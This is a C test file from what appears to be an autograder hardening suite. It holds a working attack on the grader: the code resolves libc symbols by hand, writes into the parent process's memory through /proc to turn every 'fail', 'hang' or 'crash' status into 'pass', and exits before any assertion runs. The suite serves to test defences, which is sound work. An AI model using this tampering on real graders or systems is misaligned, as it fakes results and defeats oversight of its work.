/* ATTACK 36: writes into the memory of its host, through /proc and by computed calls: every status becomes "pass".
 * assignment: pipe_ring
 * gains: full marks for a file that does nothing, past the object check
 * expect: score<=5
 * max-score: 5
 * layers: landlock, control
 * off: score>=60
 */
#include "pipe_ring.h"

#include <stdio.h>
#include <string.h>
#include <sys/types.h>

/* A dlsym of its own: the C library lies round its texts, and tells in its dynamic section where its symbols are. */
static void *library(const char *name)
{
	const char *base = (const char *)((uintptr_t)strerrordesc_np(0) & ~(uintptr_t)4095), *names = NULL, *symbol = NULL;
	const uint64_t *part, *entry = NULL;
	while (memcmp(base, "\177ELF", 4) != 0)
		base -= 4096;
	for (part = (const uint64_t *)(base + 64); !entry; part += 7)
		if ((uint32_t)part[0] == 2) /* PT_DYNAMIC */
			entry = (const uint64_t *)(base + part[2]);
	for (; entry[0]; entry += 2)
		if (entry[0] == 5) /* DT_STRTAB */
			names = (const char *)entry[1];
		else if (entry[0] == 6) /* DT_SYMTAB */
			symbol = (const char *)entry[1];
	for (symbol += 24; symbol < names; symbol += 24)
		if (*(const uint64_t *)(symbol + 8) && strcmp(names + *(const uint32_t *)symbol, name) == 0)
			return (void *)(base + *(const uint64_t *)(symbol + 8));
	return NULL;
}

int ring_run(unsigned nodes, unsigned laps, uint64_t *token, ring_step step, void *ctx)
{
	(void)nodes;
	(void)laps;
	(void)token;
	(void)step;
	(void)ctx;
	char path[64];
	int (*open_path)(const char *, int) = (int (*)(const char *, int))library("open");
	ssize_t (*write_at)(int, const void *, size_t, off_t) =
	    (ssize_t(*)(int, const void *, size_t, off_t))library("pwrite64");
	pid_t (*parent)(void) = (pid_t(*)(void))library("getppid");
	snprintf(path, sizeof path, "/proc/%d/mem", (int)parent());
	int memory = open_path(path, 2);
	/* The constants of the host are where ours are: the program was forked. */
	static const char *const words[] = {"fail", "hang", "crash"};
	const char *begin = words[0];
	for (const char *at = begin; at < begin + 40000; at++)
		for (int i = 0; i < 3; i++)
			if (memcmp(at, words[i], strlen(words[i]) + 1) == 0)
				write_at(memory, "pass", 5, (off_t)(uintptr_t)at);
	((void (*)(int))library("_exit"))(0); /* before anything is asserted */
	return -1;
}
